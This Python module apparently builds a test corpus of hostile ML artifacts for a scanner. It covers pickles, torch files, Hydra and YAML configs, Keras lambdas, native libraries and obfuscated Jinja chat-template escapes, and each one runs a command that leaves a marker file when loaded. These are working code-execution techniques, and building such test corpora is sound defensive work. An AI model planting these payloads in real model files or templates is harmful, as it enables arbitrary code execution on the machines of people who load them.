# SPDX-License-Identifier: Apache-2.0
"""Hostile files, by the loader that runs them. A maker yields (name, path,
load) for each file; the call leaves the marker that $MARKER names."""

import io
import json
import lzma
import pickle
import subprocess
import tarfile
import zipfile
from pathlib import Path

from scan_calls import CODE, SHELL, Call, calls
from support import Skip


def needs(*names):
    """The modules, or a skip that names the one that is absent."""
    found = []
    for name in names:
        try:
            found.append(__import__(name, fromlist=["x"]))
        except ImportError:
            raise Skip(f"{name} is not installed") from None
    return found[0] if len(found) == 1 else found


# --------------------------------------------------------------- unpicklers
def load_pickle(path):
    with open(path, "rb") as file:
        return pickle.load(file)


def load_torch(path):
    import torch
    return torch.load(path, weights_only=False)


def pickled(folder, write, load, ending):
    """Each call in one kind of file."""
    for number, (name, call) in enumerate(calls()):
        path = folder / f"{number}{ending}"
        try:
            write({"step": 7, "call": call}, path)
        except (pickle.PicklingError, TypeError, AttributeError):
            continue  # a protocol that can't say it
        yield name, path, load


def by_pickle(protocol):
    def write(value, path):
        path.write_bytes(pickle.dumps(value, protocol))
    return lambda folder: pickled(folder, write, load_pickle, ".pkl")


def by_torch(**options):
    import torch

    def write(value, path):
        torch.save({"w": torch.ones(3), **value}, path, **options)
    return lambda folder: pickled(folder, write, load_torch, ".pt")


def nested(folder):
    """torch.storage._load_from_bytes in a pickle, by each protocol."""
    import torch

    for protocol in (2, 4):
        for number, (name, call) in enumerate(calls()):
            if number % 5:
                continue
            inner = io.BytesIO()
            try:
                torch.save(call, inner)
            except pickle.PicklingError:  # not in the protocol of torch.save
                continue
            path = folder / f"{protocol}_{number}.pkl"
            path.write_bytes(pickle.dumps(Call(
                torch.storage._load_from_bytes, inner.getvalue()), protocol))
            yield f"{name}, {protocol}", path, load_pickle


def by_numpy(ending):
    def make(folder):
        import numpy

        def write(value, path):
            array = numpy.empty(2, object)
            array[:] = [value, 1]
            if ending == ".npz":
                numpy.savez(path, a=array)
            else:
                numpy.save(path, array, allow_pickle=True)

        def load(path):
            found = numpy.load(path, allow_pickle=True)
            return found["a"] if ending == ".npz" else found
        return pickled(folder, write, load, ending)
    return make


def by_joblib(compress, hidden=False):
    """`hidden`: in an array of objects, which is a pickle between opcodes."""
    def make(folder):
        joblib = needs("joblib")
        import numpy

        def write(value, path):
            if hidden:
                array = numpy.empty(2, object)
                array[:] = [value["call"], 1]
                value = {"plain": numpy.arange(99.0), "call": array}
            joblib.dump({"w": numpy.arange(9.0), "v": value}, path,
                        compress=compress)
        return pickled(folder, write, joblib.load, ".joblib")
    return make


def by_pandas(compression):
    def make(folder):
        pandas = needs("pandas")

        def write(value, path):
            frame = pandas.DataFrame({"a": [1, 2], "b": [value["call"], 1]})
            frame.to_pickle(path, compression=compression)

        def load(path):
            return pandas.read_pickle(path, compression=compression)
        return pickled(folder, write, load, ".pkl")
    return make


# ------------------------------------------------------------------ archives
def packages(folder):
    """torch.package: a module that is imported, or one of Python's own that
    the archive brings along."""
    import torch.package as tp

    def load(name):
        def imports(path):
            importer = tp.PackageImporter(str(path))
            if name == "own":
                return importer.import_module("own")
            return importer.load_pickle("d", "d.pkl")
        return imports

    for name in ("own", "collections", "copyreg", "datetime"):
        path = folder / f"{name}.pt"
        import collections
        import datetime
        data = {"collections": collections.OrderedDict(a=1), "own": [1],
                "copyreg": collections.OrderedDict(),
                "datetime": datetime.date(2026, 1, 1)}[name]
        with tp.PackageExporter(str(path)) as exporter:
            exporter.extern("**")
            exporter.save_pickle("d", "d.pkl", data)
            exporter.save_source_string("own", "# ours\n")
        moved = folder / f"{name}_moved.pt"
        code = f"open({str(moved) + '.ran'!r}, 'w').close()\n"
        with zipfile.ZipFile(path) as old, zipfile.ZipFile(moved, "w") as new:
            for entry in old.namelist():
                content = old.read(entry)
                if entry.endswith(".data/extern_modules"):
                    content = b"\n".join(line for line in content.split(b"\n")
                                         if line != name.encode())
                if entry.endswith("own.py"):
                    entry = entry.replace("own.py", name + ".py")
                    content = (code + "OrderedDict = date = dict\n").encode()
                new.writestr(entry, content)
        yield name, moved, load(name)


def scripts(folder):
    """TorchScript that writes a file while it is loaded."""
    import torch

    for where in ("save", "bytes"):
        path = folder / f"{where}.pt"

        class Module(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.marker = str(path) + ".ran"
                self.w = torch.ones(3)

            @torch.jit.export
            def __getstate__(self):
                return (self.marker, self.w, self.training)

            @torch.jit.export
            def __setstate__(self, state: tuple[str, torch.Tensor, bool]):
                torch.save(state[1], state[0])
                self.marker, self.w, self.training = state

            def forward(self, x):
                return x + self.w
        torch.jit.script(Module()).save(str(path))
        Path(str(path) + ".ran").unlink(missing_ok=True)
        load = torch.jit.load if where == "save" else load_torch
        yield where, path, load


def exported(folder):
    """torch.export: an expression that sympy evaluates."""
    import torch

    class Module(torch.nn.Module):
        def forward(self, x):
            return x * 2

    size = torch.export.Dim("n", min=2, max=99)
    program = torch.export.export(Module(), (torch.ones(4, 3),),
                                  dynamic_shapes=({0: size},))
    plain = folder / "plain.pt2"
    torch.export.save(program, plain)
    bodies = {
        "lambdify": f"lambdify((), {CODE!r})()",
        "in a sum": f"s0 + lambdify((), {CODE!r})()",
        "in a call": f"Max(s0, lambdify((), {CODE!r})())",
    }
    for name, body in bodies.items():
        path = folder / f"{name}.pt2"
        with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w") as new:
            for entry in old.namelist():
                content = old.read(entry)
                if entry.endswith(".json") and b"expr_str" in content:
                    content = with_expression(json.loads(content), body)
                new.writestr(entry, content)
        yield name, path, torch.export.load


def with_expression(tree, body):
    def walk(value):
        if isinstance(value, dict):
            if "expr_str" in value:
                value["expr_str"] = body
            value = list(value.values())
        if isinstance(value, list):
            for one in value:
                walk(one)
    walk(tree)
    return json.dumps(tree).encode()


def native(folder):
    """AOTInductor's packages: a library whose constructor runs."""
    import torch

    source = folder / "x.c"
    source.write_text('#include <stdlib.h>\n__attribute__((constructor)) '
                      "static void f(void) { system(%s); }\n"
                      % json.dumps(SHELL))
    library = folder / "x.so"
    try:
        subprocess.run(["cc", "-shared", "-fPIC", "-o", library, source],
                       check=True, capture_output=True)
    except (OSError, subprocess.CalledProcessError):
        raise Skip("no C compiler") from None
    for name in ("model", "other"):
        path = folder / f"{name}.pt2"
        with zipfile.ZipFile(path, "w") as file:
            file.writestr("m/archive_format", "pt2")
            file.writestr("m/archive_version", "0")
            file.writestr("m/byteorder", "little")
            file.writestr(f"m/data/aotinductor/{name}/x.so",
                          library.read_bytes())
            file.writestr(f"m/data/aotinductor/{name}/x_metadata.json",
                          json.dumps({"AOTI_DEVICE_KEY": "cpu"}))

        def load(path, name=name):
            return torch._C._aoti.AOTIModelPackageLoader(
                str(path), name, False, 1, -1)
        yield name, path, load


# ------------------------------------------------------------ configurations
def targets():
    """What Hydra calls, with its arguments."""
    shell = ["/bin/sh", "-c", SHELL]
    yield {"_target_": "os.system", "_args_": [SHELL]}
    yield {"_target_": "posix.system", "_args_": [SHELL]}
    yield {"_target_": "os.popen", "_args_": [SHELL]}
    yield {"_target_": "subprocess.Popen", "args": shell}
    yield {"_target_": "subprocess.check_output", "args": shell}
    yield {"_target_": "builtins.eval", "_args_": [CODE]}
    yield {"_target_": "builtins.exec", "_args_": [CODE]}
    yield {"_target_": "timeit.timeit", "stmt": CODE, "number": 1}
    yield {"_target_": "pdb.run", "_args_": [CODE]}
    yield {"_target_": "torch.serialization.os.system", "_args_": [SHELL]}
    yield {"_target_": "torch.nn.parallel.distributed.os.system",
           "_args_": [SHELL]}
    yield {"_target_": "torch.utils.data.dataset.sys.modules.get",
           "_args_": [{"_target_": "os.system", "_args_": [SHELL]}]}


def depths(value):
    yield value
    yield {"model": {"tokenizer": value}}
    yield {"model": {"layers": [{"name": "a"}, {"init": [value]}]}}


def by_hydra(ending):
    """Hydra over a configuration: a file, or a member of a .nemo."""
    def make(folder):
        yaml, hydra = needs("yaml", "hydra.utils")
        from omegaconf import OmegaConf

        number = 0
        for target in targets():
            for tree in depths(target):
                number += 1
                path = folder / f"{number}{ending}"
                text = json.dumps(tree) if ending == ".json" else \
                    yaml.safe_dump(tree)
                if ending.startswith(".nemo"):
                    mode = "w:gz" if ending.endswith("gz") else "w"
                    with tarfile.open(path, mode) as out:
                        info = tarfile.TarInfo("./model_config.yaml")
                        info.size = len(text.encode())
                        out.addfile(info, io.BytesIO(text.encode()))
                else:
                    path.write_text(text)

                def load(path):
                    if ending.startswith(".nemo"):
                        with tarfile.open(path) as archive:
                            text = archive.extractfile(
                                "./model_config.yaml").read()
                    else:
                        text = path.read_text()
                    tree = OmegaConf.create(yaml.safe_load(text))
                    hydra.instantiate(tree)
                yield f"{target['_target_']} {number}", path, load
    return make


def tags(folder):
    """YAML's tags for Python, with the loader that obeys them."""
    yaml = needs("yaml")
    shell = json.dumps(SHELL)
    bodies = (
        f"a: !!python/object/apply:os.system [{shell}]\n",
        f"- !!python/object/apply:os.system\n  args: [{shell}]\n",
        f"a:\n  b: !!python/object/new:os.system [{shell}]\n",
        f"!!python/object/apply:eval [{json.dumps(CODE)}]\n",
        "%TAG !p! tag:yaml.org,2002:python/\n---\n"
        f"a: !p!object/apply:os.system [{shell}]\n",
        f"a: !<tag:yaml.org,2002:python/object/apply:os.system> [{shell}]\n")
    for number, body in enumerate(bodies):
        path = folder / f"{number}.yaml"
        path.write_text(body)
        yield body.split("\n")[0], path, \
            lambda path: yaml.unsafe_load(path.read_text())


def keras_files(folder):
    """Keras: lambdas in its archives."""
    keras = needs("keras")
    for ending in (".keras", ".h5"):
        for number in range(2):
            layer = keras.layers.Lambda(eval(
                "lambda x: (__import__('os').system(%r), x)[1]" % SHELL))
            inputs = keras.Input((3,))
            outputs = layer(keras.layers.Dense(2)(inputs)) if number else \
                layer(inputs)
            path = folder / f"{number}{ending}"
            keras.Model(inputs, outputs).save(path)
            Path(str(path) + ".ran").unlink(missing_ok=True)

            def load(path):
                model = keras.saving.load_model(path, safe_mode=False)
                import numpy
                return model(numpy.ones((1, 3), "float32"))
            yield f"Lambda {number}{ending}", path, load


def remote_code(folder):
    """transformers: modules that lie beside the configuration."""
    import transformers

    for number, auto in enumerate(("AutoConfig", "AutoTokenizer", "AutoModel")):
        path = folder / str(number)
        path.mkdir()
        (path / "own_code.py").write_text(
            CODE + "\nfrom transformers import PretrainedConfig\n"
            "class Config(PretrainedConfig):\n    model_type = 'own'\n")
        names = {"AutoConfig": "own_code.Config",
                 "AutoTokenizer": ["own_code.Config", None],
                 "AutoModel": "own_code.Config"}
        config = {"model_type": "own", "auto_map": {
            "AutoConfig": "own_code.Config", auto: names[auto]}}
        (path / "config.json").write_text(json.dumps(config))

        def load(path):
            transformers.AutoConfig.from_pretrained(path,
                                                    trust_remote_code=True)
        yield auto, path, load


# ----------------------------------------------------------------- templates
def templates():
    """Ways of a Jinja template to Python's own."""
    import jinja2

    jinja2.Environment()
    act = "(" + json.dumps(CODE) + ")"
    yield "globals", ("{{ cycler.__init__.__globals__.__builtins__['eval']"
                      + act + " }}")
    yield "strings", ("{{ cycler['__init__']['__globals__']['__builtins__']"
                      "['eval']" + act + " }}")
    yield "escapes", ("{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\x5f\\x5fglobals"
                      "\\x5f\\x5f']['\\x5f\\x5fbuiltins\\x5f\\x5f']['eval']"
                      + act + " }}")
    yield "attr", ("{{ (cycler|attr('__init__')|attr('__globals__'))"
                   "['__builtins__']['eval']" + act + " }}")
    yield "joined", ("{% set u = '_' * 2 %}{{ cycler[u ~ 'init' ~ u][u ~ "
                     "'globals' ~ u][u ~ 'builtins' ~ u]['eval']" + act
                     + " }}")
    yield "set before", ("{% set a = '_' ~ '_init_' ~ '_' %}{% set b = '_' ~ "
                         "'_globals_' ~ '_' %}{% set c = '_' ~ '_builtins_' ~ "
                         "'_' %}{{ cycler[a][b][c]['eval']" + act + " }}")
    yield "format", ("{% set u = '%c%c' % (95, 95) %}{{ cycler[u + 'init' + u]"
                     "[u + 'globals' + u][u + 'builtins' + u]['eval']" + act
                     + " }}")
    yield "join", ("{{ (cycler|attr(['_', '_init_', '_']|join)|attr(['_', "
                   "'_globals_', '_']|join))[['_', '_builtins_', '_']|join]"
                   "['eval']" + act + " }}")
    yield "a loop", ("{% for m in messages %}{{ m.role }}{% endfor %}{% if "
                     "cycler.__init__.__globals__['os'].system(\"touch "
                     "\\\"$MARKER\\\"\") %}{% endif %}")
    yield "map", ("{% set g = [cycler]|map(attribute='__init__.__globals__')"
                  "|first %}{{ g['__builtins__']['eval']" + act + " }}")
    yield "a macro", ("{% macro m(x) %}{{ x.__globals__['__builtins__']['eval']"
                      + act + " }}{% endmacro %}{{ m(cycler.reset) }}")
    yield "names", ("{% set a = dict(_=1)|list|first %}{% set d = a ~ a %}"
                    "{{ cycler[d ~ 'init' ~ d][d ~ 'globals' ~ d]"
                    "[d ~ 'builtins' ~ d]['eval']" + act + " }}")


def by_template(kind):
    def make(folder):
        import jinja2

        for number, (name, text) in enumerate(templates()):
            path = folder / f"{number}"
            if kind == "gguf":
                path = path.with_suffix(".gguf")
                writer = needs("gguf").GGUFWriter(str(path), "llama")
                writer.add_chat_template(text)
                writer.write_header_to_file()
                writer.write_kv_data_to_file()
                writer.close()
            elif kind == "jinja":
                path = path.with_suffix(".jinja")
                path.write_text(text)
            else:
                path.mkdir()
                value = text if kind == "one" else [
                    {"name": "default", "template": "{{ messages }}"},
                    {"name": "tool_use", "template": text}]
                (path / "tokenizer_config.json").write_text(
                    json.dumps({"chat_template": value}))

            def load(path, text=text):
                jinja2.Environment().from_string(text).render(
                    messages=[{"role": "user", "content": "x"}])
            yield name, path, load
    return make


def packed(folder):
    """A pickle in each stream that joblib, pandas or a shell packs."""
    import bz2
    import gzip
    import zlib

    frame = needs("lz4.frame")
    streams = {"gz": gzip.compress, "bz2": bz2.compress, "z": zlib.compress,
               "xz": lzma.compress, "lz4": frame.compress,
               "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE)}
    opens = {"gz": gzip.decompress, "bz2": bz2.decompress,
             "z": zlib.decompress, "xz": lzma.decompress,
             "lzma": lzma.decompress, "lz4": frame.decompress}
    for ending, pack in streams.items():
        for number, (name, call) in enumerate(calls()):
            if number % 4:
                continue
            path = folder / f"{number}.pkl.{ending}"
            try:
                path.write_bytes(pack(pickle.dumps(call)))
            except pickle.PicklingError:
                continue
            yield f"{name}.{ending}", path, \
                lambda path, ending=ending: pickle.loads(
                    opens[ending](path.read_bytes()))


def groups():
    for protocol in (0, 2, 4, 5):
        yield f"pickle, protocol {protocol}", by_pickle(protocol)
    yield "torch.load", by_torch()
    yield "torch.load, old", by_torch(_use_new_zipfile_serialization=False)
    yield "torch.load in a pickle", nested
    yield "numpy.load, .npy", by_numpy(".npy")
    yield "numpy.load, .npz", by_numpy(".npz")
    for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("lzma", 3),
                     ("xz", 3), ("lz4", 3)):
        name = compress[0] if compress else "plain"
        yield f"joblib.load, {name}", by_joblib(compress)
    yield "joblib.load, in an array", by_joblib(0, hidden=True)
    for compression in (None, "gzip", "bz2", "xz", "zip", "tar"):
        yield f"pandas.read_pickle, {compression}", by_pandas(compression)
    yield "packed streams", packed
    yield "torch.package", packages
    yield "torch.jit.load", scripts
    yield "torch.export.load", exported
    yield "AOTInductor", native
    for ending in (".yaml", ".json", ".nemo", ".nemo.gz"):
        yield f"Hydra, {ending}", by_hydra(ending)
    yield "yaml.unsafe_load", tags
    yield "keras.saving.load_model", keras_files
    yield "transformers, trust_remote_code", remote_code
    for kind in ("one", "list", "jinja", "gguf"):
        yield f"Jinja, {kind}", by_template(kind)
